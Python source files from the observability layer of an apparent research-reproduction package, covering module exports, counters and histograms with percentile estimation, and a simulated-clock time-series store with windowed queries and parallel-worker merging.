    "Histogram",
    "MetricsRegistry",
    "parse_pcap_text",
    "PcapFormatError",
    "replay_network",
    "sniff_capture",
    "TraceEvent",
]
