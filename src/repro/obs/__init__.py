"""Observability: event tracing, spans, metrics, forensics, capture export.

The layer the paper's diagnosis workflow needs (crash triage in §III,
Pineapple capture in §VI): a deterministic, simulated-clock
:class:`Collector` that the network fabric, fault engine, caches,
daemon, supervisor, emulators, and brute forcer all report into — flat
events, counters/histograms, *causal spans* (one exploit attempt = one
span tree from wire to verdict), structured :class:`CrashReport`
postmortems, a Chrome trace-event exporter for Perfetto, and a text
pcap format for the traffic log that round-trips through the sniffer.
On top of the flat registry sits the campaign layer: ring-buffered
:class:`TimeSeriesStore` sampling on the simulated clock, declarative
:class:`SloRule` objectives with ``slo.breach`` alerts, OpenMetrics
text exposition that round-trips through its strict parser, and the
``repro dash`` terminal dashboard.
"""

from .chrome import (
    chrome_counter_events,
    chrome_trace_events,
    export_chrome_trace,
    validate_chrome_trace,
)
from .collector import Collector
from .dashboard import (
    build_dashboard_json,
    dashboard_json,
    render_dashboard,
    sparkline,
    top_spans,
)
from .events import EventBus, TraceEvent
from .metrics import Counter, Histogram, MetricsRegistry, estimate_percentile
from .openmetrics import (
    OpenMetricsError,
    export_openmetrics,
    parse_openmetrics,
    render_openmetrics,
)
from .slo import (
    DEFAULT_SLOS,
    SWEEP_SLOS,
    SloReport,
    SloRule,
    SloRuleError,
    SloVerdict,
    evaluate_slos,
    parse_rule,
    parse_rules,
)
from .timeseries import TimeSeries, TimeSeriesStore
from .pcap import (
    PcapFormatError,
    export_datagrams,
    export_pcap_text,
    parse_pcap_text,
    replay_network,
    sniff_capture,
)
from .postmortem import CrashReport, capture_crash_report
from .profiler import (
    CACHE_LINES,
    DEFAULT_SAMPLE_INTERVAL,
    DeterministicProfiler,
    ProfileData,
    WallClockProfiler,
    folded_stacks,
    render_profile,
    speedscope_document,
    validate_speedscope,
)
from .spans import Span, Tracer, snapshot_payload
from .taint import (
    ShadowMemory,
    TaintEngine,
    format_offsets,
    group_offsets,
    render_provenance,
    validate_taint_summary,
)

__all__ = [
    "build_dashboard_json",
    "CACHE_LINES",
    "capture_crash_report",
    "chrome_counter_events",
    "chrome_trace_events",
    "Collector",
    "Counter",
    "CrashReport",
    "dashboard_json",
    "DEFAULT_SAMPLE_INTERVAL",
    "DEFAULT_SLOS",
    "DeterministicProfiler",
    "estimate_percentile",
    "evaluate_slos",
    "EventBus",
    "export_chrome_trace",
    "export_datagrams",
    "export_openmetrics",
    "export_pcap_text",
    "folded_stacks",
    "format_offsets",
    "group_offsets",
    "Histogram",
    "MetricsRegistry",
    "OpenMetricsError",
    "parse_openmetrics",
    "parse_pcap_text",
    "parse_rule",
    "parse_rules",
    "PcapFormatError",
    "ProfileData",
    "render_dashboard",
    "render_openmetrics",
    "render_profile",
    "render_provenance",
    "replay_network",
    "SloReport",
    "SloRule",
    "SloRuleError",
    "SloVerdict",
    "ShadowMemory",
    "sniff_capture",
    "snapshot_payload",
    "Span",
    "TaintEngine",
    "speedscope_document",
    "SWEEP_SLOS",
    "sparkline",
    "TimeSeries",
    "TimeSeriesStore",
    "top_spans",
    "TraceEvent",
    "Tracer",
    "validate_chrome_trace",
    "validate_speedscope",
    "validate_taint_summary",
    "WallClockProfiler",
]
