"""Observability: event tracing, spans, metrics, forensics, capture export.

The layer the paper's diagnosis workflow needs (crash triage in §III,
Pineapple capture in §VI): a deterministic, simulated-clock
:class:`Collector` that the network fabric, fault engine, caches,
daemon, supervisor, emulators, and brute forcer all report into — flat
events, counters/histograms, *causal spans* (one exploit attempt = one
span tree from wire to verdict), structured :class:`CrashReport`
postmortems, a Chrome trace-event exporter for Perfetto, and a text
pcap format for the traffic log that round-trips through the sniffer.
"""

from .chrome import chrome_trace_events, export_chrome_trace, validate_chrome_trace
from .collector import Collector
from .events import EventBus, TraceEvent
from .metrics import Counter, Histogram, MetricsRegistry
from .pcap import (
    PcapFormatError,
    export_datagrams,
    export_pcap_text,
    parse_pcap_text,
    replay_network,
    sniff_capture,
)
from .postmortem import CrashReport, capture_crash_report
from .spans import Span, Tracer, snapshot_payload

__all__ = [
    "capture_crash_report",
    "chrome_trace_events",
    "Collector",
    "Counter",
    "CrashReport",
    "EventBus",
    "export_chrome_trace",
    "export_datagrams",
    "export_pcap_text",
    "Histogram",
    "MetricsRegistry",
    "parse_pcap_text",
    "PcapFormatError",
    "replay_network",
    "sniff_capture",
    "snapshot_payload",
    "Span",
    "TraceEvent",
    "Tracer",
    "validate_chrome_trace",
]
