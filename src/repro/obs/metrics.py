"""Counters and histograms for the observability layer.

A :class:`MetricsRegistry` is a flat namespace of named
:class:`Counter`\\ s and :class:`Histogram`\\ s, created on first touch
(``registry.inc("faults.drop")`` just works).  Everything is plain
arithmetic over values the caller supplies, so a registry is exactly as
deterministic as the run feeding it, and ``to_dict()`` serializes
straight to JSON for the CLI and for ``ExperimentResult.to_dict``.
"""

from __future__ import annotations

import json
from typing import Dict, List, Optional, Sequence

#: Default histogram bucket upper bounds (ms-ish scale; +Inf is implicit).
DEFAULT_BUCKETS = (1.0, 5.0, 10.0, 50.0, 100.0, 250.0, 500.0, 1000.0)


def estimate_percentile(bounds: Sequence[float], bucket_counts: Sequence[float],
                        q: float, *, lo: Optional[float] = None,
                        hi: Optional[float] = None) -> Optional[float]:
    """Estimate the q-quantile from per-bucket counts (Prometheus-style).

    ``bucket_counts`` are *non-cumulative* per-bucket counts, one per bound
    plus the trailing +Inf bucket.  Interpolates linearly inside the bucket
    the target rank lands in; a rank landing in the +Inf bucket returns the
    observed ``hi`` when known, else the highest finite bound.  Returns
    ``None`` (never raises) when there are no observations, so windowed
    queries over quiet periods stay total.  ``lo``/``hi`` clamp the
    estimate to the observed range when the caller tracks it.
    """
    total = sum(bucket_counts)
    if total <= 0:
        return None
    if not 0.0 <= q <= 1.0:
        raise ValueError(f"percentile q must be in [0, 1], got {q!r}")
    target = q * total
    estimate: Optional[float] = None
    running = 0.0
    for index, bound in enumerate(bounds):
        count = bucket_counts[index]
        running += count
        if count > 0 and running >= target:
            lower = bounds[index - 1] if index > 0 else min(0.0, bound)
            fraction = (target - (running - count)) / count
            estimate = lower + (bound - lower) * fraction
            break
    if estimate is None:  # rank lands in the +Inf bucket
        estimate = hi if hi is not None else (bounds[-1] if bounds else lo)
    if estimate is None:
        return None
    if lo is not None:
        estimate = max(estimate, lo)
    if hi is not None:
        estimate = min(estimate, hi)
    return estimate


def _round6(value: Optional[float]) -> Optional[float]:
    return None if value is None else round(value, 6)


class Counter:
    """A monotonically increasing named count."""

    def __init__(self, name: str):
        self.name = name
        self.value = 0

    def inc(self, amount: int = 1) -> int:
        if amount < 0:
            raise ValueError(f"counter {self.name}: negative increment {amount}")
        self.value += amount
        return self.value

    def to_dict(self) -> dict:
        return {"name": self.name, "value": self.value}


class Histogram:
    """Bucketed distribution: count/sum/min/max plus cumulative buckets."""

    def __init__(self, name: str, buckets: Sequence[float] = DEFAULT_BUCKETS):
        self.name = name
        self.bounds = tuple(sorted(buckets))
        self.bucket_counts = [0] * (len(self.bounds) + 1)  # last = +Inf
        self.count = 0
        self.total = 0.0
        self.min: Optional[float] = None
        self.max: Optional[float] = None

    def observe(self, value: float) -> None:
        self.count += 1
        self.total += value
        self.min = value if self.min is None else min(self.min, value)
        self.max = value if self.max is None else max(self.max, value)
        for index, bound in enumerate(self.bounds):
            if value <= bound:
                self.bucket_counts[index] += 1
                return
        self.bucket_counts[-1] += 1

    @property
    def mean(self) -> float:
        return self.total / self.count if self.count else 0.0

    def percentile(self, q: float) -> Optional[float]:
        """Estimated q-quantile (q in [0, 1]) from the cumulative buckets.

        Contract: an empty histogram returns ``None`` and never raises —
        the SLO engine treats "no data" as its own verdict, distinct from
        any numeric comparison.
        """
        if self.count == 0:
            return None
        return estimate_percentile(self.bounds, self.bucket_counts, q,
                                   lo=self.min, hi=self.max)

    def merge(self, other: "Histogram") -> None:
        """Fold another histogram's observations into this one.

        Merging is commutative and associative (sums and bucket adds), so
        parallel workers' histograms merge to the same totals regardless of
        completion order.
        """
        if other.bounds != self.bounds:
            raise ValueError(
                f"histogram {self.name}: merge with mismatched buckets "
                f"{other.bounds} != {self.bounds}"
            )
        self.count += other.count
        self.total += other.total
        if other.min is not None:
            self.min = other.min if self.min is None else min(self.min, other.min)
        if other.max is not None:
            self.max = other.max if self.max is None else max(self.max, other.max)
        self.bucket_counts = [
            mine + theirs for mine, theirs in zip(self.bucket_counts, other.bucket_counts)
        ]

    def to_dict(self) -> dict:
        return {
            "name": self.name,
            "count": self.count,
            "sum": round(self.total, 6),
            "mean": round(self.mean, 6),
            "min": self.min,
            "max": self.max,
            "p50": _round6(self.percentile(0.50)),
            "p95": _round6(self.percentile(0.95)),
            "p99": _round6(self.percentile(0.99)),
            "buckets": {
                **{f"le_{bound:g}": count
                   for bound, count in zip(self.bounds, self.bucket_counts)},
                "le_inf": self.bucket_counts[-1],
            },
        }


class MetricsRegistry:
    """Create-on-first-touch namespace of counters and histograms."""

    def __init__(self):
        self._counters: Dict[str, Counter] = {}
        self._histograms: Dict[str, Histogram] = {}

    # -- access -----------------------------------------------------------------

    def counter(self, name: str) -> Counter:
        if name not in self._counters:
            self._counters[name] = Counter(name)
        return self._counters[name]

    def histogram(self, name: str,
                  buckets: Sequence[float] = DEFAULT_BUCKETS) -> Histogram:
        if name not in self._histograms:
            self._histograms[name] = Histogram(name, buckets)
        return self._histograms[name]

    def inc(self, name: str, amount: int = 1) -> None:
        self.counter(name).inc(amount)

    def observe(self, name: str, value: float) -> None:
        self.histogram(name).observe(value)

    def value(self, name: str) -> int:
        """Current count for ``name`` (0 if never incremented)."""
        counter = self._counters.get(name)
        return counter.value if counter is not None else 0

    def merge(self, other: "MetricsRegistry") -> None:
        """Fold another registry in: counters add, histograms merge.

        The parallel sweep runner ships each worker's registry back (plain
        picklable objects) and merges them in task order, reproducing the
        sequential run's counter totals exactly.

        Every histogram's bucket bounds are validated *before* anything is
        mutated: a mid-merge mismatch must not leave this registry with
        half-merged counters, so the whole merge either applies or raises.
        """
        for name, histogram in other._histograms.items():
            mine = self._histograms.get(name)
            if mine is not None and mine.bounds != histogram.bounds:
                raise ValueError(
                    f"registry merge: histogram {name!r} bucket bounds differ: "
                    f"ours {mine.bounds} vs theirs {histogram.bounds}"
                )
        for name, counter in other._counters.items():
            self.counter(name).inc(counter.value)
        for name, histogram in other._histograms.items():
            self.histogram(name, histogram.bounds).merge(histogram)

    def counters(self) -> Dict[str, int]:
        return {name: counter.value for name, counter in sorted(self._counters.items())}

    # -- export -----------------------------------------------------------------

    def to_dict(self) -> dict:
        return {
            "counters": self.counters(),
            "histograms": [self._histograms[name].to_dict()
                           for name in sorted(self._histograms)],
        }

    def to_json(self, indent: int = 2) -> str:
        return json.dumps(self.to_dict(), indent=indent)

    def describe(self) -> str:
        lines: List[str] = ["counters:"]
        for name, value in self.counters().items():
            lines.append(f"  {name:<28} {value}")
        if len(lines) == 1:
            lines.append("  (none)")
        if self._histograms:
            lines.append("histograms:")
            for name in sorted(self._histograms):
                histogram = self._histograms[name]
                lines.append(
                    f"  {name:<28} count={histogram.count} "
                    f"mean={histogram.mean:.1f} min={histogram.min} max={histogram.max}"
                )
        return "\n".join(lines)
