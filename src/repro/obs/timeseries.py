"""Windowed time series over the simulated clock.

The metrics registry holds *final* counts; a campaign needs to know how
the system behaved **over simulated time** — did serve-stale spike during
the outage window, did restarts cluster, did parse latency drift?  A
:class:`TimeSeriesStore` attached to a :class:`~repro.obs.Collector`
(``collector.attach_series(store)``) samples every counter and histogram
in the registry each time the simulated clock crosses a sampling-grid
boundary (multiples of ``interval``), via the ``Collector.advance`` /
``advance_to`` hook.  ``Collector.sample()`` forces an off-grid sample at
the current clock — the end-of-run flush the dashboard uses on scenarios
that never move the clock.

Determinism mirrors the rest of the observability layer: grid times are
pure functions of the clock movements, sample values are snapshots of the
registry at the crossing, and two same-seed runs produce bit-identical
stores.  Ring buffers bound memory on long campaigns: each series keeps
the most recent ``limit`` samples and counts what it sheds.

Worker merge
------------

The parallel chaos sweep gives each worker its own collector (clock
starting at zero) and ships the worker's store back to the parent.
:meth:`TimeSeriesStore.adopt` folds a worker store in with the exact
semantics the sequential sweep exhibits: the shared collector clock only
moves *forward* (``advance_to`` is a max), so a later point produces
samples only at grid times beyond everything already sampled, and each
sample's value is the *cumulative* registry value — prior points' final
counts plus the current point's progress.  ``adopt`` therefore skips
worker samples at already-covered grid times and offsets the rest by the
parent registry's pre-merge values (pass ``observer.metrics`` *before*
merging the worker registry), reproducing the sequential store
bit-for-bit (the parity test pins this).
"""

from __future__ import annotations

import json
from bisect import bisect_left, bisect_right
from typing import Any, Dict, List, Optional, Tuple

from .metrics import MetricsRegistry, estimate_percentile

SERIES_SCHEMA = "repro-series/v1"

#: Default sampling period (simulated seconds between grid points).
DEFAULT_INTERVAL = 1.0
#: Default ring-buffer depth per series.
DEFAULT_SERIES_LIMIT = 4096


class TimeSeries:
    """One metric's ring-buffered samples: parallel (time, value) arrays.

    ``kind`` is ``"counter"`` (values are cumulative ints) or
    ``"histogram"`` (values are ``{"count", "sum", "buckets"}`` snapshots
    whose bucket layout is the series' ``bounds``).
    """

    def __init__(self, name: str, kind: str, *,
                 limit: int = DEFAULT_SERIES_LIMIT,
                 bounds: Optional[Tuple[float, ...]] = None):
        if kind not in ("counter", "histogram"):
            raise ValueError(f"series {name}: unknown kind {kind!r}")
        self.name = name
        self.kind = kind
        self.limit = limit
        self.bounds = bounds
        self.times: List[float] = []
        self.values: List[Any] = []
        self.dropped = 0

    def __len__(self) -> int:
        return len(self.times)

    def record(self, time: float, value: Any) -> None:
        """Append one sample; a repeated time re-snapshots in place."""
        if self.times and self.times[-1] == time:
            self.values[-1] = value
            return
        self.times.append(time)
        self.values.append(value)
        if len(self.times) > self.limit:
            overflow = len(self.times) - self.limit
            del self.times[:overflow]
            del self.values[:overflow]
            self.dropped += overflow

    # -- point queries ---------------------------------------------------------

    def latest(self) -> Optional[Any]:
        return self.values[-1] if self.values else None

    def at_or_before(self, when: float) -> Optional[Any]:
        """Value of the most recent sample taken at or before ``when``."""
        index = bisect_right(self.times, when) - 1
        return self.values[index] if index >= 0 else None

    def before(self, when: float) -> Optional[Any]:
        """Value of the most recent sample taken strictly before ``when``.

        The subtraction baseline for closed-interval window queries: a
        sample lying exactly on the window's left edge belongs *inside*
        the window, so the baseline has to be the sample before it.
        """
        index = bisect_left(self.times, when) - 1
        return self.values[index] if index >= 0 else None

    def value_at_exact(self, when: float) -> Optional[Any]:
        """Sample taken at exactly ``when`` (grid lookups for the merge)."""
        index = bisect_right(self.times, when) - 1
        if index >= 0 and self.times[index] == when:
            return self.values[index]
        return None

    # -- export ----------------------------------------------------------------

    def to_dict(self) -> dict:
        exported: Dict[str, Any] = {
            "name": self.name,
            "kind": self.kind,
            "times": [round(time, 6) for time in self.times],
            "values": (
                list(self.values) if self.kind == "counter"
                else [{"count": value["count"],
                       "sum": round(value["sum"], 6),
                       "buckets": list(value["buckets"])}
                      for value in self.values]
            ),
            "dropped": self.dropped,
        }
        if self.bounds is not None:
            exported["bounds"] = list(self.bounds)
        return exported


def _histogram_snapshot(histogram) -> Dict[str, Any]:
    return {
        "count": histogram.count,
        "sum": histogram.total,
        "buckets": list(histogram.bucket_counts),
    }


class TimeSeriesStore:
    """Samples a :class:`MetricsRegistry` on the simulated clock's grid."""

    def __init__(self, *, interval: float = DEFAULT_INTERVAL,
                 limit: int = DEFAULT_SERIES_LIMIT):
        if interval <= 0:
            raise ValueError(f"sampling interval must be positive, got {interval!r}")
        if limit <= 0:
            raise ValueError(f"series limit must be positive, got {limit!r}")
        self.interval = interval
        self.limit = limit
        self.series: Dict[str, TimeSeries] = {}
        #: Every sample time taken, in order (ring-capped like the series).
        self.timeline: List[float] = []
        self.samples_taken = 0
        self._next = interval  # first un-sampled grid boundary

    def __len__(self) -> int:
        return len(self.timeline)

    # -- sampling --------------------------------------------------------------

    def observe_clock(self, clock: float, registry: MetricsRegistry) -> int:
        """Take one sample per grid boundary the clock has crossed."""
        taken = 0
        while self._next <= clock:
            self._take_sample(self._next, registry)
            self._next += self.interval
            taken += 1
        return taken

    def force_sample(self, clock: float, registry: MetricsRegistry) -> float:
        """Sample right now, off-grid (the end-of-run flush)."""
        self._take_sample(clock, registry)
        return clock

    def _ensure(self, name: str, kind: str,
                bounds: Optional[Tuple[float, ...]] = None) -> TimeSeries:
        series = self.series.get(name)
        if series is None:
            series = TimeSeries(name, kind, limit=self.limit, bounds=bounds)
            self.series[name] = series
        elif series.kind != kind:
            raise ValueError(
                f"series {name}: kind changed from {series.kind} to {kind}")
        elif bounds is not None and series.bounds != bounds:
            raise ValueError(
                f"series {name}: histogram bounds changed "
                f"{series.bounds} -> {bounds}")
        return series

    def _take_sample(self, time: float, registry: MetricsRegistry) -> None:
        if not self.timeline or self.timeline[-1] != time:
            self.timeline.append(time)
            if len(self.timeline) > self.limit:
                del self.timeline[:len(self.timeline) - self.limit]
        self.samples_taken += 1
        for name, value in registry.counters().items():
            self._ensure(name, "counter").record(time, value)
        for name in sorted(registry._histograms):
            histogram = registry._histograms[name]
            self._ensure(name, "histogram", histogram.bounds).record(
                time, _histogram_snapshot(histogram))

    # -- windowed queries ------------------------------------------------------

    def names(self) -> List[str]:
        return sorted(self.series)

    def latest(self, name: str) -> Optional[Any]:
        series = self.series.get(name)
        return series.latest() if series is not None else None

    def last_time(self) -> Optional[float]:
        return self.timeline[-1] if self.timeline else None

    def delta(self, name: str, window: float,
              at: Optional[float] = None) -> Optional[float]:
        """Counter increase over the closed window ``[at - window, at]``.

        The subtracted baseline is the last sample *strictly before*
        ``at - window`` (0 before the counter's birth), so an increase
        sampled exactly at the window's left edge counts as inside it —
        matching the closed interval the signature promises.
        """
        series = self.series.get(name)
        if series is None or not series.times or series.kind != "counter":
            return None
        when = at if at is not None else series.times[-1]
        end = series.at_or_before(when)
        if end is None:
            return None
        start = series.before(when - window)
        return end - (start if start is not None else 0)

    def rate(self, name: str, window: float,
             at: Optional[float] = None) -> Optional[float]:
        """Average per-second counter rate over the trailing ``window``."""
        if window <= 0:
            raise ValueError(f"rate window must be positive, got {window!r}")
        increase = self.delta(name, window, at)
        return None if increase is None else increase / window

    def percentile(self, name: str, q: float, window: Optional[float] = None,
                   at: Optional[float] = None) -> Optional[float]:
        """Estimated q-quantile of a histogram's observations in a window.

        Works on the *delta* bucket counts between the window's endpoint
        snapshots, so it reflects only observations inside the window;
        ``window=None`` uses everything up to ``at``.  Returns ``None``
        when the series is missing or the window saw no observations.
        """
        series = self.series.get(name)
        if series is None or not series.times or series.kind != "histogram":
            return None
        when = at if at is not None else series.times[-1]
        end = series.at_or_before(when)
        if end is None:
            return None
        start = None
        if window is not None:
            start = series.at_or_before(when - window)
        counts = list(end["buckets"])
        if start is not None:
            counts = [now - then for now, then in zip(counts, start["buckets"])]
        return estimate_percentile(series.bounds or (), counts, q)

    # -- worker merge ----------------------------------------------------------

    def adopt(self, worker: "TimeSeriesStore", offsets: MetricsRegistry) -> int:
        """Fold a worker store in, reproducing the sequential sweep's store.

        ``offsets`` must be the parent registry *before* the worker's
        registry is merged into it — its values are the cumulative counts
        every prior point contributed, exactly what the shared sequential
        registry held while this point ran.  Worker samples at grid times
        the parent already covered are skipped (the shared clock, a max,
        would never have re-crossed them); the rest are offset and
        adopted.  Returns the number of sample times adopted.
        """
        if worker.interval != self.interval:
            raise ValueError(
                f"series adopt: interval mismatch "
                f"{worker.interval} != {self.interval}")
        counter_offsets = offsets.counters()
        histogram_offsets = {
            name: (offsets._histograms[name].bounds,
                   _histogram_snapshot(offsets._histograms[name]))
            for name in offsets._histograms
        }
        carried = set(counter_offsets) | set(histogram_offsets)
        adopted = 0
        for time in worker.timeline:
            if time < self._next:
                continue
            if not self.timeline or self.timeline[-1] != time:
                self.timeline.append(time)
                if len(self.timeline) > self.limit:
                    del self.timeline[:len(self.timeline) - self.limit]
            self.samples_taken += 1
            adopted += 1
            names = sorted(carried | set(worker.series))
            for name in names:
                worker_series = worker.series.get(name)
                value = (worker_series.value_at_exact(time)
                         if worker_series is not None else None)
                if value is None and name not in carried:
                    continue  # metric not born yet at this sample time
                kind = (worker_series.kind if worker_series is not None
                        else ("counter" if name in counter_offsets
                              else "histogram"))
                if kind == "counter":
                    base = counter_offsets.get(name, 0)
                    merged = base + (value if value is not None else 0)
                    self._ensure(name, "counter").record(time, merged)
                else:
                    bounds, base = histogram_offsets.get(name, (None, None))
                    if worker_series is not None:
                        if bounds is not None and worker_series.bounds != bounds:
                            raise ValueError(
                                f"series adopt: histogram {name!r} bounds "
                                f"differ: {worker_series.bounds} vs {bounds}")
                        bounds = worker_series.bounds
                    if value is None:
                        merged_value = {"count": base["count"],
                                        "sum": base["sum"],
                                        "buckets": list(base["buckets"])}
                    elif base is None:
                        merged_value = {"count": value["count"],
                                        "sum": value["sum"],
                                        "buckets": list(value["buckets"])}
                    else:
                        merged_value = {
                            "count": base["count"] + value["count"],
                            "sum": base["sum"] + value["sum"],
                            "buckets": [mine + theirs for mine, theirs
                                        in zip(base["buckets"], value["buckets"])],
                        }
                    self._ensure(name, "histogram", bounds).record(
                        time, merged_value)
            self._next = time + self.interval
        return adopted

    # -- export ----------------------------------------------------------------

    def to_dict(self) -> dict:
        return {
            "schema": SERIES_SCHEMA,
            "interval": self.interval,
            "samples_taken": self.samples_taken,
            "timeline": [round(time, 6) for time in self.timeline],
            "series": {name: self.series[name].to_dict()
                       for name in sorted(self.series)},
        }

    def to_json(self, indent: int = 2) -> str:
        return json.dumps(self.to_dict(), indent=indent)

    def describe(self) -> str:
        last = self.last_time()
        header = (f"series store: {len(self.series)} series, "
                  f"{self.samples_taken} samples"
                  + (f", last t={last:.1f}s" if last is not None else ""))
        lines = [header]
        for name in self.names():
            series = self.series[name]
            tail = series.latest()
            shown = tail if series.kind == "counter" else (
                f"count={tail['count']}" if tail else "-")
            lines.append(f"  {name:<32} [{series.kind}] "
                         f"{len(series)} samples, last {shown}")
        return "\n".join(lines)
